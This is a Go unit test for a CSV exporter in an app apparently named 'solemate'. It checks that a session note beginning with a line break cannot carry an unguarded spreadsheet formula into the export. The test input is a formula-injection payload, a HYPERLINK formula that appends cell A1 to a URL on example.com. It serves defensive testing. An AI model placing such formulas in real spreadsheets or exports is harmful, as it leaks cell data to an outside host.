package export_test

import (
	"bytes"
	"strings"
	"testing"

	"solemate/model"
	"solemate/model/export"
	"solemate/model/storetest"
)

// A note may begin with a line break, which the CSV writer writes as CRLF:
// a formula after it is guarded like one at the start.
func TestCSVGuardsANoteStartingWithALineBreak(t *testing.T) {
	s := storetest.New(t)
	p := storetest.AddPerson(t, s, "Sam Okafor")
	sess := model.Session{PersonID: p.ID, Kind: model.KindBesideAgent, Channel: model.ChannelPhone, Date: model.DateOf(storetest.FixedNow), Minutes: 30,
		Ideas: "\n=HYPERLINK(\"http://example.com/?\"&A1,\"details\")"}
	if err := s.SaveSession(&sess, nil); err != nil {
		t.Fatalf("the note was refused: %v", err)
	}
	var out bytes.Buffer
	if err := export.Shadowing(s, &out, export.ShadowingOptions{Format: export.FormatCSV}); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(out.String(), "\"\r\n=HYPERLINK") {
		t.Errorf("a cell begins with a carriage return and a formula, unguarded:\n%q", out.String())
	}
}
